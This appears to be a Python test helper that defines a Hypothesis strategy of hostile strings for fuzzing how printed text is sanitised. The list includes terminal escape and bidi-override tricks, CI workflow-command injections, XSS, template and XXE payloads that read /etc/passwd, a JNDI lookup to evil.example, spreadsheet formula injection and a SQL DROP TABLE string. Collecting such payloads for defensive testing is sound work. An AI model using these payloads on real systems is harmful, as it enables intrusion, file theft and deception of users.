"""Words that an article could carry to harm whoever prints them."""

from __future__ import annotations

from hypothesis import strategies as st

HOSTILE = (
    "\x1b[2J\x1b[1;1Hwiped",
    "\x1b]8;;https://evil.example\x07click\x1b]8;;\x07",
    "\x9b31mred",
    "\x08\x08\x08backspaced",
    "null\x00byte",
    "right \u202egnp.exe\u202c left",
    "\u2066isolate\u2069",
    "tag \U000e0041\U000e0042 letters",
    "zero\u200bwidth\ufeff",
    "lone \ud800 surrogate \udfff",
    "not a character \ufffe \uffff",
    "line one\nline two\rline three\r\nline four\u2028five\u2029six\x85seven\x0beight\x0cnine",
    "::error file=x::owned",
    "text\n::set-output name=a::b",
    "text\n   ::add-mask::secret",
    "##[error]owned",
    "::stop-commands::token",
    "%0A::error::x",
    "100%, a:b, c,d",
    "[click](https://evil.example)",
    "[click](1)",
    "\\[x\\](1)",
    "![img](https://evil.example/p.png)",
    "[/] [bold] [link=https://evil.example]",
    "<script>alert(1)</script>",
    "</script><img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "' onmouseover='alert(1)",
    "{{ 7*7 }} {% include '/etc/passwd' %}",
    "${jndi:ldap://evil.example}",
    "javascript:alert(1)",
    "<!-- --> --> <![CDATA[ ]]> ]]>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "&lt;already&gt; &amp; &#x41;",
    '=HYPERLINK("https://evil.example","click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    'a,b;c\t"quoted"\r\nnext,row',
    "'=already guarded",
    "@everyone @org/team #1 org/repo#2 GH-3",
    "user@example.org www.evil.example https://evil.example/a?b=c",
    "| a | b |\n|---|---|",
    "# heading\n- list\n1. list\n> quote\n```\ncode",
    "*bold* _it_ ~~gone~~ `code` $math$ $$x$$",
    "    indented",
    "---\nsetext",
    "`````",
    "' OR 1=1; DROP TABLE claim; --",
    "emoji 👩‍👩‍👧 नमस्ते مرحبا",
    "a" * 5_000,
    "(" * 300,
    "\\" * 50,
    "]]" * 50,
)

NASTY_LETTERS = (
    "\x00\x07\x08\t\n\r\x1b\x7f\x85\x9b\u200b\u200e\u2028\u202a\u202e\u2066\ufeff\ufffe"
    "\U000e0041\ud800\\`*_[](){}<>#|~$&!@:;,%=+-'\"/. ab1"
)

hostile = st.one_of(
    st.sampled_from(HOSTILE),
    st.text(alphabet=NASTY_LETTERS, min_size=1, max_size=40),
    st.text(min_size=1, max_size=40),
)
